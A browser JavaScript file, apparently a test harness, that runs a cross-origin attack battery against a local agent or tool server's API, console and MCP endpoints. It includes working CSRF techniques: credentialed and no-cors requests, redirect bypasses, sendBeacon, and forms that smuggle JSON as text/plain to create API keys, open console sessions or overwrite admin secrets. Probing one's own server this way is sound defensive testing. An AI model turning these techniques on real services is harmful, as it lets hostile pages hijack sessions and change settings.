/* What a page tries at a server that is not its own. Served to the browser as it stands; nothing here runs in Node. */

/** How long one attempt may take; those that the browser never tells the end of take all of it. */
const PATIENCE_MS = 3_000;
/** Some elements load what they cannot show without a word. */
const SILENT_MS = 300;
/** Below what the browser opens to one server, so that no attempt waits for another's end. */
const AT_ONCE = 5;

/**
 * Tries everything at `base` and resolves with what it could read: `{ tried, read: [[what, text]] }`. `key` is sent where a
 * page can send one, as if it had leaked, and `ticket` is one of the console that nobody has used yet. `helper` is the page's
 * own server, which redirects.
 */
async function attack({ base, helper, key, ticket }) {
  const read = [];
  let tried = 0;
  const attempt = async (what, act) => {
    tried++;
    try {
      const text = await Promise.race([act(), new Promise((resolve) => setTimeout(resolve, PATIENCE_MS))]);
      if (text !== undefined && text !== null && text !== false) read.push([what, String(text)]);
    } catch {
      // Refused by the browser or by the server: nothing was read.
    }
  };

  const run = JSON.stringify({ provider: "vendor", endpoint: "/it", input: {} });
  const mcp = JSON.stringify({
    jsonrpc: "2.0",
    id: 1,
    method: "initialize",
    params: { protocolVersion: "2025-06-18", capabilities: {}, clientInfo: { name: "page", version: "1" } },
  });
  const readable = ["/health", "/openapi.json", "/v1/runs", "/v1/events", "/console/", "/mcp", "/"];
  const writes = [
    ["/v1/run", run],
    ["/v1/api-keys", JSON.stringify({ label: "page" })],
    ["/public/v1/discover/endpoints", JSON.stringify({ q: "weather" })],
    ["/v1/console/tickets", "{}"],
    ["/v1/console/sessions", JSON.stringify({ ticket })],
    ["/mcp", mcp],
  ];
  const bearer = { authorization: `Bearer ${key}` };
  const textOf = async (response) =>
    response.type === "opaque" || response.type === "opaqueredirect"
      ? undefined
      : `${response.status} ${await response.text()}`;
  const ask = async (path, init) => await textOf(await fetch(`${base}${path}`, init));
  const redirected = (path, status = 302) =>
    `${helper}/redirect?status=${status}&to=${encodeURIComponent(`${base}${path}`)}`;

  const jobs = [];
  const later = (what, act) => jobs.push(() => attempt(what, act));

  for (const path of readable) {
    later(`fetch ${path}`, () => ask(path));
    later(`fetch ${path} with credentials`, () => ask(path, { credentials: "include" }));
    later(`fetch ${path} without CORS`, () => ask(path, { mode: "no-cors", credentials: "include" }));
    later(`fetch ${path} with a key`, () => ask(path, { headers: bearer }));
    later(`fetch ${path} by a redirect`, async () => await textOf(await fetch(redirected(path))));
    later(`XMLHttpRequest ${path}`, () => xhr("GET", `${base}${path}`));
    later(`EventSource ${path}`, () => eventSource(`${base}${path}`));
    later(`WebSocket ${path}`, () => webSocket(`${base.replace(/^http/, "ws")}${path}`));
    for (const tag of ["img", "script", "link", "video", "object", "embed"]) {
      later(`<${tag}> ${path}`, () => element(tag, `${base}${path}`));
    }
    later(`<img> ${path} by a redirect`, () => element("img", redirected(path)));
    later(`<script type=module> ${path}`, async () => await import(`${base}${path}`));
    later(`<iframe> ${path}`, () => frame((name) => open(`${base}${path}`, name)));
    later(`importScripts ${path}`, () =>
      script(`importScripts(${JSON.stringify(`${base}${path}`)}); postMessage("loaded")`),
    );
  }
  for (const [path, body] of writes) {
    const post = (headers, more = {}) => ask(path, { method: "POST", headers, body, ...more });
    later(`POST ${path} as JSON`, () => post({ "content-type": "application/json" }));
    later(`POST ${path} as JSON with a key`, () => post({ "content-type": "application/json", ...bearer }));
    later(`POST ${path} as text`, () => post({ "content-type": "text/plain" }, { credentials: "include" }));
    later(`POST ${path} as text without CORS`, () => post({ "content-type": "text/plain" }, { mode: "no-cors" }));
    later(`POST ${path} kept alive`, () =>
      post({ "content-type": "text/plain" }, { mode: "no-cors", keepalive: true }),
    );
    later(`POST ${path} without a type`, () => post({}, { mode: "no-cors", body: new Blob([body]) }));
    later(`POST ${path} by a redirect`, async () => {
      const init = { method: "POST", body, mode: "no-cors", headers: { "content-type": "text/plain" } };
      return await textOf(await fetch(redirected(path, 307), init));
    });
    later(`XMLHttpRequest POST ${path}`, () => xhr("POST", `${base}${path}`, body));
    later(`sendBeacon ${path}`, () => void navigator.sendBeacon(`${base}${path}`, body));
    later(
      `sendBeacon ${path} as a blob`,
      () => void navigator.sendBeacon(`${base}${path}`, new Blob([body], { type: "text/plain" })),
    );
    for (const [kind, type] of [
      ["urlencoded", "application/x-www-form-urlencoded"],
      ["multipart", "multipart/form-data"],
      ["text", "text/plain"],
    ]) {
      later(`form ${kind} ${path}`, () => frame((name) => submit(name, "post", type, `${base}${path}`, body)));
    }
    later(`form GET ${path}`, () => frame((name) => submit(name, "get", "", `${base}${path}`, body)));
    later(`form ${path} by a redirect`, () =>
      frame((name) => submit(name, "post", "text/plain", redirected(path, 307), body)),
    );
  }
  for (const method of ["PUT", "DELETE", "PATCH"]) {
    for (const path of [
      "/v1/admin/secrets/STOLEN",
      "/v1/api-keys/owner",
      "/v1/admin/settings",
      "/v1/console/session",
      "/mcp",
    ]) {
      const init = {
        method,
        headers: { "content-type": "application/json", ...bearer },
        body: `{"value":"x","label":"x"}`,
      };
      later(`${method} ${path}`, () => ask(path, init));
    }
  }
  const worker = async () => {
    for (let job = jobs.shift(); job !== undefined; job = jobs.shift()) await job();
  };
  await Promise.all(Array.from({ length: AT_ONCE }, worker));
  return { tried, read };
}

function xhr(method, url, body) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.open(method, url);
    request.withCredentials = true;
    request.addEventListener("load", () => resolve(`${request.status} ${request.responseText}`));
    request.addEventListener("error", () => resolve(undefined));
    request.send(body);
  });
}

function eventSource(url) {
  return new Promise((resolve) => {
    const source = new EventSource(url, { withCredentials: true });
    source.addEventListener("open", () => resolve("open"));
    source.addEventListener("message", ({ data }) => resolve(data));
    source.addEventListener("error", () => {
      source.close();
      resolve(undefined);
    });
  });
}

function webSocket(url) {
  return new Promise((resolve) => {
    const socket = new WebSocket(url);
    socket.addEventListener("open", () => resolve("open"));
    socket.addEventListener("error", () => resolve(undefined));
  });
}

/** Loads an address as an element does; what it shows is read where the element lets a page read it. */
function element(tag, url) {
  return new Promise((resolve) => {
    const made = document.createElement(tag);
    made.addEventListener("load", () => {
      if (tag === "img") resolve(made.naturalWidth > 0 ? "an image" : undefined);
      else if (tag === "link") resolve(rulesOf(made));
      else resolve(contentOf(made));
    });
    made.addEventListener("error", () => resolve(undefined));
    if (tag === "link") {
      made.rel = "stylesheet";
      made.href = url;
    } else if (tag === "object") made.data = url;
    else made.src = url;
    document.body.append(made);
    if (tag === "object" || tag === "embed") setTimeout(() => resolve(contentOf(made)), SILENT_MS);
  });
}

function rulesOf(link) {
  try {
    return [...link.sheet.cssRules].map(({ cssText }) => cssText).join("\n");
  } catch {
    return undefined;
  }
}

/** What the document inside says; undefined where another origin's is closed to the page. */
function contentOf(container) {
  try {
    const inside = container.contentDocument?.documentElement?.textContent ?? "";
    return inside === "" ? undefined : inside;
  } catch {
    return undefined;
  }
}

let frames = 0;

function frame(load) {
  return new Promise((resolve) => {
    const made = document.createElement("iframe");
    made.name = `frame-${frames++}`;
    document.body.append(made);
    made.addEventListener("load", () => resolve(contentOf(made)));
    load(made.name);
  });
}

/** A form whose body, sent as text, is the JSON with a member more than it had. */
function submit(target, method, enctype, action, json) {
  const form = Object.assign(document.createElement("form"), { target, method, enctype, action });
  const field = document.createElement("input");
  field.name = `${json.slice(0, -1)},"page":"`;
  field.value = `"}`;
  form.append(field);
  document.body.append(form);
  form.submit();
}

function script(code) {
  return new Promise((resolve) => {
    const made = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    made.addEventListener("message", ({ data }) => resolve(data));
    made.addEventListener("error", () => resolve(undefined));
  });
}

globalThis.attack = attack;
